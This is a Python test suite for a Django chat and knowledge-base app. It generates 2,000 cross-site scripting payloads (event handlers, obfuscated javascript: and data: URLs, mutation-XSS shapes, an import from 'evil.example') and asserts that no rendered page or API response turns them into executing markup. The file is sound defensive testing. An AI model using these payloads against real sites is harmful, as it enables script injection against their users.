"""Two thousand hostile texts through everything that shows text: none becomes markup that acts.

What a browser would build is asserted, not how it is spelt: pages are parsed, and their elements
and attributes looked at.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from functools import cache
from itertools import islice
from typing import Any
from urllib.parse import urlsplit
from uuid import uuid4

import lxml.html
import pytest
from django.test import Client

from conversations.models import Conversation, Customer
from conversations.services import message_receive
from conversations.types import TEXT_LIMIT
from conversations.views.markup import ATTRIBUTES, TAGS, message_html
from core import tenancy
from core.tenancy import TenantContext
from knowledge.models import Chunk, Document
from tests.factories.conversations import answer

SignIn = Callable[..., Client]
COUNT = 2_000
ACTS = ("iframe", "object", "embed", "base", "applet", "frame", "portal", "fencedframe")
ADDRESSES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "srcdoc"}
SCHEMES = ("javascript:", "vbscript:", "data:")
TAGS_TRIED = ["script", "img", "svg", "iframe", "a", "body", "input", "details", "video", "math"]
HANDLERS = ["onerror", "onload", "onclick", "onfocus", "ontoggle", "onpointerenter"]
CODES = ["alert(1)", "alert`1`", "import('//evil.example')", "top[`al`+`ert`](1)"]
URLS = [
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "&#106;avascript:{}",
    "\x01javascript:{}",
    "javascript&colon;{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    'https://a.example/"onmouseover={} x="',
    "//evil.example/{}",
]
SHAPES = [
    "<{tag} {on}={code}>",
    "<{tag}/{on}={code}//",
    '<{tag} src=x {on}="{code}">x</{tag}>',
    "<{tag}><{tag}>{code}</{tag}",
    "</p><{tag} href='{url}'>x</{tag}>",
    "[x]({url})",
    '[x](<{url}> "{on}={code}")',
    "[x]({url} '\"{on}=\"{code}')",
    "![x]({url})",
    "<{url}>",
    "[x]: {url}\n[x]",
    "`<{tag} {on}={code}>`",
    "**<{tag} {on}={code}>**",
    '"><{tag} {on}={code}>',
    "'-{code}-'",
    "{{{{{code}}}}} {{% debug %}}",
    "<!--><{tag} {on}={code}>-->",
    "<![CDATA[><{tag} {on}={code}>]]>",
    "&lt;{tag} {on}={code}&gt;",
    "<math><mtext><table><mglyph><style><!--</style><img {on}={code}>",
    "{url}",
    "[1]({url}) [1]",
]


@cache
def payloads() -> tuple[str, ...]:
    """Return the texts: the same at every run."""
    chance = random.Random(20261125)
    found: dict[str, None] = {}
    while len(found) < COUNT:
        code = chance.choice(CODES)
        url = chance.choice(URLS).format(code)
        parts = {"tag": chance.choice(TAGS_TRIED), "on": chance.choice(HANDLERS), "code": code}
        found[chance.choice(SHAPES).format(url=url, **parts)] = None
    return tuple(found)


def acting(html: str) -> Iterator[str]:
    """Give every element and attribute of a page that would do something."""
    for element in lxml.html.document_fromstring(html).iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag in ACTS or (element.tag == "script" and not _is_ours(element)):
            yield f"<{element.tag}>"
        for name, value in element.attrib.items():
            if name.startswith(("on", "hx-on")) or _runs(name, str(value)):
                yield f"{element.tag}.{name}={value}"


def _is_ours(script: Any) -> bool:
    """Return whether it is a file of ours, or data: browsers do not run those."""
    if script.get("type") == "application/json":
        return True
    return script.get("src", "").startswith("/static/") and not (script.text or "").strip()


def _runs(name: str, value: str) -> bool:
    """Return whether an address has a scheme that runs; browsers skip what is not printable."""
    plain = "".join(letter for letter in value if letter > " ").lower()
    return name in ADDRESSES and plain.startswith(SCHEMES)


def texts() -> Iterator[str]:
    """Give the payloads, as many in each text as one message may have."""
    waiting, together = list(payloads()), ""
    while waiting:
        if len(together) + len(waiting[-1]) + 2 > TEXT_LIMIT // 2:
            yield together
            together = ""
        together += waiting.pop() + "\n\n"
    yield together


def test_the_eye_sees_what_acts() -> None:
    """What these tests look for would be found if it were there."""
    bad = "<p onclick=x>a</p><a href=' java\tscript:x'>b</a><script>c</script><iframe></iframe>"
    assert len(list(acting(bad))) == 4
    assert len(payloads()) == len(set(payloads())) == COUNT


@pytest.mark.parametrize("author", ["visitor", "agent", "ai"])
def test_no_text_becomes_markup_that_acts(author: str) -> None:
    citation = {"number": 1, "url": "/knowledge/source/1/", "quote": '"><script>alert(1)</script>'}
    for text in payloads():
        html = message_html(author=author, text=text, citations=[citation])
        body = lxml.html.fragment_fromstring(str(html), create_parent="main")
        elements = [element for element in body.iterdescendants() if isinstance(element.tag, str)]
        assert list(acting(f"<main>{html}</main>")) == [], text
        assert {element.tag for element in elements} <= TAGS, text
        for element in elements:
            allowed = ATTRIBUTES.get(str(element.tag), set()) | {"rel"}
            assert set(element.attrib) <= allowed, text
            scheme = urlsplit(element.get("href", "")).scheme
            assert scheme in {"", "http", "https", "mailto"}, text


@pytest.fixture
def talk(acme: TenantContext, globex: TenantContext) -> Conversation:
    """Return a conversation in which visitor and AI say every payload."""
    with tenancy.tenant_scope(acme):
        first = payloads()[0]
        customer = Customer.objects.create(name=first[:80], email=f"{first[:40]}@example.com")
        conversation = Conversation.objects.create(customer=customer)
        for text in texts():
            message_receive(conversation_id=conversation.pk, client_id=uuid4().hex, text=text)
            answer(conversation.pk, text)
    return conversation


def test_inbox_shows_payloads_as_text(sign_in: SignIn, talk: Conversation) -> None:
    client = sign_in()
    updates = f"/inbox/{talk.pk}/updates/?after=0"
    for path in ("/inbox/", "/inbox/list/", f"/inbox/{talk.pk}/", updates):
        page = client.get(path)
        assert page.status_code == 200, path
        assert list(acting(page.content.decode() or "<p>")) == [], path
    shown = lxml.html.document_fromstring(client.get(f"/inbox/{talk.pk}/").content.decode())
    assert "alert(1)" in shown.text_content()


def test_json_gives_payloads_back_as_they_were(sign_in: SignIn, talk: Conversation) -> None:
    answered = sign_in().get(f"/api/v1/conversations/{talk.pk}/messages?page_size=200")
    assert answered["Content-Type"] == "application/json"
    assert answered["X-Content-Type-Options"] == "nosniff"
    said = [row["text"] for row in answered.json()["results"] if row["author"] == "visitor"]
    assert "".join(said).count("alert(1)") > 100
    assert len(said) == len(list(texts()))


def test_documents_show_payloads_as_text(sign_in: SignIn, acme: TenantContext) -> None:
    client = sign_in()
    with tenancy.tenant_scope(acme):
        chunks = [_chunk(title, text) for title, text in zip(payloads(), texts(), strict=False)]
    paths = [f"/knowledge/source/{chunk.pk}/?s=0&e=40" for chunk in chunks]
    paths += [f"/knowledge/documents/{chunk.document_id}/" for chunk in islice(chunks, 5)]
    for path in ("/knowledge/", "/knowledge/rows/", *paths):
        page = client.get(path)
        assert page.status_code == 200, path
        assert list(acting(page.content.decode())) == [], path


@pytest.mark.parametrize("address", [shape.format("alert(1)") for shape in URLS])
def test_address_that_runs_is_no_documents_source(
    sign_in: SignIn, acme: TenantContext, address: str
) -> None:
    answered = sign_in().post(
        "/api/v1/documents", {"url": address}, content_type="application/json"
    )
    assert answered.status_code in {400, 422}
    with tenancy.tenant_scope(acme):
        assert not Document.objects.exists()


def _chunk(title: str, text: str) -> Chunk:
    document = Document.objects.create(
        title=title[:200],
        filename=f"{uuid4().hex} {title[:60]}.md",
        format="md",
        state="ready",
        size_bytes=1,
        text=text,
        error_detail=title[:200],
        collection=title[:80],
        version=1,
        live_version=1,
    )
    return Chunk.objects.create(
        document=document,
        version=1,
        position=0,
        text=text,
        heading=title[:200],
        start=0,
        end=len(text),
        token_count=1,
        is_live=True,
    )
